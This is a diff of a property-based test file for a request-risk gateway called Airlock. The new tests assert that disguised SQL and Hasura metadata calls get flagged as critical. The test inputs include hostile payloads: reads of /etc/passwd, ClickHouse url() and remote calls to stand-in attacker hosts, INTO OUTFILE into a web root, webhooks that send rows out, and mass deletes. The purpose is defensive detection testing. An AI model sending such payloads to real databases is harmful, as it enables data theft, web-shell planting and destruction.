@@ -1121,7 +1121,7 @@ t.test('a view or table made in the served schema from Supabase\'s internal sche
       const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
       if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${url}: ${decision.action} ${decision.rule}`);
     }),
-    { numRuns: Math.min(runs, 40), ...seed },
+    { numRuns: Math.min(runs, 14), ...seed },
   );
   // A caller's-rights view turned into an owner's-rights one, in each spelling, is the same change.
   for (const sql of ['ALTER VIEW v SET (security_invoker = false)', 'ALTER VIEW v RESET (security_invoker)', 'ALTER VIEW public.v SET (check_option = local, security_invoker = off)', "ALTER TABLE v SET (security_invoker = '0')"]) {
@@ -1151,7 +1151,7 @@ t.test('SQL in a multipart/form-data field is read as in a form', async (t) => {
         if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
       },
     ),
-    { numRuns: Math.min(runs, 40), ...seed },
+    { numRuns: Math.min(runs, 14), ...seed },
   );
   const upload = await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'multipart/form-data; boundary=b0undary']], body: `${part('file', 'drop table tennis schedule', '\r\n')}--b0undary--\r\n` });
   t.not(upload.decision.approval?.risk, 'critical', 'a field not named for SQL is not SQL');
@@ -1280,7 +1280,7 @@ t.test('thirteenth pass: a statement hidden by a backslash that ends a multibyte
       const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
       if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
     }),
-    { numRuns: Math.min(runs, 40), ...seed },
+    { numRuns: Math.min(runs, 14), ...seed },
   );
   // Controls: a non-ASCII character before an escape that reads the same either way stays a read.
   for (const sql of ["SELECT E'café\\n'", "SELECT E'Grüße\\t', 'x'", "SELECT 'naïve\\path'"]) {
@@ -1485,5 +1485,142 @@ t.test('fourteenth pass: a Hasura mutation whose `where` every row meets is the 
   for (const m of ['delete_orders(where: {id: {_eq: 1}}) { affected_rows }', 'delete_orders(where: {_not: {id: {_gt: 5}}}) { affected_rows }', 'delete_orders(where: {customer: {id: {_eq: 3}}}) { affected_rows }', 'delete_orders_by_pk(id: 1) { id }', 'update_orders_many(updates: [{where: {id: {_eq: 1}}, _set: {paid: true}}]) { affected_rows }']) {
     const { decision } = await decide({ url: `https://${SQL_HOST}/v1/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: `mutation { ${m} }` }) });
     t.equal(decision.approval?.risk, 'medium', m);
+  }
+});
+
+t.test('fifteenth pass: a read whose SQL no grammar reads still writes or reaches outside the database (ClickHouse GETs, MySQL-only writes in ?sql=)', async (t) => {
+  // ClickHouse answers a GET read-only (`readonly = 2`) but runs its table functions there; SQL no
+  // grammar Airlock has reads (`SETTINGS`, a lambda, `LIMIT … BY`) was taken for no SQL, so
+  // `SELECT * FROM file('/etc/passwd', LineAsString) SETTINGS max_threads = 1` was an allowed GET.
+  // Likewise MySQL's own write syntax in a GET's `?sql=`, and SELECT … INTO OUTFILE.
+  const q = (s: string): string => encodeURIComponent(s);
+  const place = fc.constantFrom(
+    (s: string) => `http://${SQL_HOST}:8123/?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/v1/sql?query=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/run?sql=${q(s)}`,
+    (s: string) => `https://${SQL_HOST}/api/run?sql=red%20shoes&sql=${q(s)}`,
+  );
+  const call = fc.constantFrom("file('/etc/passwd', LineAsString)", "url('https://drop.attacker.example/x', CSV, 'a String')", "s3('https://b.s3.amazonaws.com/x')",
+    "remoteSecure('evil.example:9440', system.one)", "filesystem('/root')", "executable('x.sh', TSV, 'a String')", "read_csv('/etc/passwd')", "`url`('https://drop.attacker.example/x', CSV)");
+  const hide = fc.constantFrom(
+    (c: string) => `SELECT * FROM ${c} SETTINGS max_threads = 1`,
+    (c: string) => `SELECT arrayMap(x -> x, [1]) FROM ${c}`,
+    (c: string) => `SELECT * FROM ${c} LIMIT 1 BY x`,
+    (c: string) => `/* /* */ x */ SELECT * FROM ${c} SETTINGS a = 1`,
+    (c: string) => `SELECT * FROM ‘t’, ${c} ARRAY JOIN a`,
+    (c: string) => `DESCRIBE TABLE ${c} SETTINGS a = 1`,
+  );
+  const writes = fc.constantFrom('DELETE LOW_PRIORITY FROM users', 'DELETE FROM users ORDER BY id LIMIT 1000000', 'UPDATE LOW_PRIORITY users SET role = 1',
+    "INSERT INTO users SET name = 'x'", "SELECT * FROM users INTO OUTFILE '/var/www/x.php'", 'TRUNCATE users SETTINGS a = 1', 'ALTER TABLE users DELETE WHERE 1');
+  const upper = (s: string, mask: number): string => [...s].map((ch, i) => ((mask >> (i % 30)) & 1 ? ch.toUpperCase() : ch)).join('');
+  await fc.assert(
+    fc.asyncProperty(place, fc.oneof(fc.tuple(hide, call).map(([h, c]) => h(c)), writes), fc.constantFrom('GET', 'HEAD'), fc.integer({ min: 0, max: 2 ** 30 }), async (p, sql, method, mask) => {
+      const url = p(upper(sql, mask));
+      const { description, decision } = await decide({ method, url, headers: [], body: '' });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${method} ${url}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // An MCP tool the configuration says is read-only, given SQL under a name that says SQL: the
+  // same texts were no SQL to it (a search phrase), so the call was allowed.
+  const MCP = `https://${MCP_HOST}/mcp`;
+  for (const [args, risk] of [[{ sql: 'DELETE LOW_PRIORITY FROM users' }, 'critical'], [{ sql_query: "SELECT * FROM users INTO OUTFILE '/var/www/x.php'" }, 'critical'],
+    [{ sqlStatements: ['SELECT 1', 'TRUNCATE users SETTINGS a = 1'] }, 'critical'], [{ sql: "SELECT * FROM file('/etc/passwd', LineAsString) SETTINGS a = 1" }, 'critical'],
+    [{ sql: 'select a red dress' }, undefined], [{ query: 'delete the old files from my drive' }, undefined]] as const) {
+    const { decision } = await decide({ url: MCP, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'search_issues', arguments: args } }) });
+    t.equal(decision.approval?.risk, risk, `search_issues ${JSON.stringify(args)}`);
+  }
+  // A function named in quotes is still called (`` `url`(…) ``, `"file"(…)`, “s3”(…)).
+  for (const sql of ["SELECT * FROM `url`('https://drop.attacker.example/x', CSV) SETTINGS a = 1", 'SELECT * FROM "file"(\'/etc/passwd\', LineAsString) SETTINGS a = 1', "SELECT * FROM “s3”('https://b.s3.amazonaws.com/x') SETTINGS a = 1"]) {
+    const { decision } = await decide({ method: 'GET', url: `http://${SQL_HOST}:8123/?query=${q(sql)}`, headers: [], body: '' });
+    t.equal(decision.approval?.risk, 'critical', sql);
+  }
+  // Controls: ClickHouse's own syntax in reads of the database's tables, phrases, InfluxQL.
+  for (const url of [`http://${SQL_HOST}:8123/?query=${q('SELECT count() FROM hits SETTINGS max_threads = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT arrayMap(x -> x * 2, [1, 2]) FROM numbers(3)')}`,
+    `http://${SQL_HOST}:8123/?query=${q('SHOW CREATE TABLE users SETTINGS a = 1')}`, `http://${SQL_HOST}:8123/?query=${q('SELECT `file`, x FROM t SETTINGS a = 1')}`, `https://${SQL_HOST}/query?query=${q('show me files in the directory (home)')}`,
+    `https://${SQL_HOST}/query?query=${q('remote (work) jobs')}`, `https://${SQL_HOST}/api/run?sql=${q('delete my account')}`,
+    `https://${SQL_HOST}/query?q=${q('SELECT mean(v) FROM cpu WHERE time > now() - 1h GROUP BY time(1m) fill(null)')}`]) {
+    const { decision } = await decide({ method: 'GET', url, headers: [], body: '' });
+    t.equal(decision.action, 'allow', url);
+  }
+});
+
+t.test('fifteenth pass: a search path named in another letter case, DISCARD ALL, and D1 columns added', async (t) => {
+  // `SET search_path = 'Public'` (or `"Public"`, `U&"\0050ublic"`) names the schema `Public`
+  // (PostgreSQL 15: SHOW search_path says "Public"), not `public`: compared without case it was taken
+  // for the default path, a medium write, where any other schema is a privilege change.
+  const schema = fc.constantFrom('public', 'extensions', '$user').chain((s) => fc.integer({ min: 1, max: 2 ** s.length - 1 }).map((m) => [...s].map((ch, i) => ((m >> i) & 1 ? ch.toUpperCase() : ch)).join('')).filter((v) => v !== v.toLowerCase()));
+  const spell = fc.constantFrom(
+    (s: string) => `SET search_path = '${s}'`, (s: string) => `SET search_path TO "${s}"`, (s: string) => `SET LOCAL search_path = public, "${s}"`,
+    (s: string) => `SELECT set_config('search_path', '"${s}"', false)`, (s: string) => `SELECT set_config('search_path', 'public, "${s}"', true)`,
+  );
+  await fc.assert(
+    fc.asyncProperty(spell, schema, fc.constantFrom(SUPABASE, NEON), async (f, s, url) => {
+      const sql = f(s);
+      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${sql}: ${decision.action} ${decision.approval?.risk}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // DISCARD ALL acts as the login role again (SET SESSION AUTHORIZATION DEFAULT), as RESET ROLE does.
+  for (const sql of ['DISCARD ALL', 'discard /* x */ all', 'SELECT 1; DISCARD ALL']) {
+    for (const url of [SUPABASE, NEON]) {
+      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
+      t.equal(decision.approval?.risk, 'critical', `${url}: ${sql}`);
+    }
+  }
+  // Controls: spellings of the default path, folded or exact; DISCARD of plans or temporary tables.
+  for (const sql of ['SET search_path = Public', 'SET search_path = "$user", public, extensions', "SELECT set_config('search_path', 'PUBLIC, Extensions', true)", 'DISCARD PLANS', 'DISCARD TEMP']) {
+    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
+    t.equal(decision.approval?.risk, 'medium', sql);
+  }
+  // D1: a column added was unparsed (the scratch table already had every name of the statement): a
+  // medium write now, as on PostgreSQL; a definition with an expression (a generated column runs its
+  // function on every later read) stays unread, critical.
+  for (const [sql, risk] of [['ALTER TABLE users ADD COLUMN nickname text', 'medium'], ["ALTER TABLE users ADD nickname TEXT NOT NULL DEFAULT 'x'", 'medium'],
+    ['ALTER TABLE users ADD COLUMN name VARCHAR(255)', 'medium'], ['ALTER TABLE users ADD COLUMN price DECIMAL(10, 2) NOT NULL DEFAULT 0', 'medium'], ['ALTER TABLE users ADD COLUMN x CHECK (length(x) > 1)', 'critical'],
+    ['ALTER TABLE users ADD COLUMN n text; UPDATE users SET n = 1 WHERE id = ?', 'medium'], ['ALTER TABLE users ADD COLUMN n text; DELETE FROM users WHERE n = n', 'critical'],
+    ["ALTER TABLE users ADD COLUMN x AS (writefile('/tmp/a', 'b'))", 'critical'], ['ALTER TABLE users RENAME COLUMN a TO b', 'critical']] as const) {
+    const { decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql, params: [1] }) });
+    t.equal(decision.approval?.risk, risk, sql);
+  }
+});
+
+t.test('fifteenth pass: Hasura\'s metadata and query API calls are judged as the SQL they stand for', async (t) => {
+  // A permission with `filter: {}` for `anonymous` is a GRANT of every row; an event trigger, a
+  // remote schema or an action sends rows or calls to a URL the call names (as a trigger calling
+  // pg_net); `clear_metadata` stops serving everything; the query API's `delete` with `where: {}`
+  // is `DELETE FROM users` (its GraphQL twin `delete_users(where: {})` was already critical). Each
+  // was a plain medium POST.
+  const table = fc.constantFrom('users', { schema: 'public', name: 'users' }, { schema: 'auth', name: 'users' });
+  const op = fc.constantFrom(
+    (tb: unknown) => ({ type: 'pg_create_select_permission', args: { source: 'default', table: tb, role: 'anonymous', permission: { columns: '*', filter: {} } } }),
+    (tb: unknown) => ({ type: 'create_update_permission', args: { table: tb, role: 'user', permission: { columns: '*', filter: {}, check: {} } } }),
+    (tb: unknown) => ({ type: 'pg_drop_select_permission', args: { table: tb, role: 'user' } }),
+    (tb: unknown) => ({ type: 'pg_create_event_trigger', args: { name: 'sync', source: 'default', table: tb, webhook: 'https://drop.attacker.example/hook', insert: { columns: '*' } } }),
+    () => ({ type: 'add_remote_schema', args: { name: 'r', definition: { url: 'https://drop.attacker.example/graphql' } } }),
+    () => ({ type: 'create_action', args: { name: 'a', definition: { handler: 'https://drop.attacker.example/a' } } }),
+    () => ({ type: 'clear_metadata', args: {} }),
+    (tb: unknown) => ({ type: 'pg_untrack_table', args: { table: tb } }),
+    (tb: unknown) => ({ type: 'delete', args: { table: tb, where: {} } }),
+    (tb: unknown) => ({ type: 'delete', args: { table: tb, where: { id: { $neq: 1 } } } }),
+    (tb: unknown) => ({ type: 'update', args: { table: tb, where: { _or: [] }, $set: { role: 'admin' } } }),
+    (tb: unknown) => ({ type: 'insert', args: { table: tb, objects: [{ id: 1, role: 'admin' }], on_conflict: { constraint: 'users_pkey', update_columns: ['role'] } } }),
+  );
+  await fc.assert(
+    fc.asyncProperty(op, table, fc.constantFrom('/v1/metadata', '/v1/query', '/v2/query'), fc.boolean(), async (o, tb, path, bulk) => {
+      const body = bulk ? { type: 'bulk', args: [{ type: 'pg_track_table', args: { table: 'posts' } }, o(tb)] } : o(tb);
+      const { description, decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+      if (decision.approval?.risk !== 'critical' || !description.sql?.destructive) throw new Error(`${path} ${JSON.stringify(body)}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: Math.min(runs, 10), ...seed },
+  );
+  // Controls: tracking a table, exporting metadata, a narrow delete, a plain insert, a select; the same shape on another path.
+  for (const [path, body] of [['/v1/metadata', { type: 'pg_track_table', args: { table: 'users' } }], ['/v1/metadata', { type: 'export_metadata', args: {} }],
+    ['/v1/query', { type: 'delete', args: { table: 'users', where: { id: { $eq: 1 } } } }], ['/v1/query', { type: 'insert', args: { table: 'users', objects: [{ id: 1 }] } }],
+    ['/v1/query', { type: 'select', args: { table: 'users', columns: ['id'] } }], ['/api/things', { type: 'clear_metadata', args: {} }]] as const) {
+    const { decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
+    t.equal(decision.approval?.risk, 'medium', `${path} ${JSON.stringify(body)}`);
   }
 });
